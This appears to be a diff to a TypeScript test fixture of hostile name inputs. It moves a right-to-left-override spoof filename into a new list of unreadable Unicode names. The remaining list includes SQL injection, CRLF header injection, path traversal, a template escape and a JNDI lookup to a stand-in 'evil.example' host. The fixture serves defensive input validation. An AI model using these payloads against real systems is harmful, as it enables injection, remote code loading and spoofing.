@@ -59,7 +59,6 @@ export const names: readonly string[] = [
   '%2e%2e%2f',
   'a\nb',
   'a\r\nSet-Cookie: x=1',
-  '\u202Egnp.exe',
   "'; drop table platform.users; --",
   '${jndi:ldap://evil.example}',
   '{{constructor.constructor("return process")()}}',
@@ -72,3 +71,6 @@ export const names: readonly string[] = [
   'con',
   '\uFEFFa',
 ];
+
+/** Names that read as others, or as nothing: no thing may bear them. */
+export const unreadable: readonly string[] = ['\u202Egnp.exe', 'a\u2066b', '\u200B', '\u00AD\u2060'];
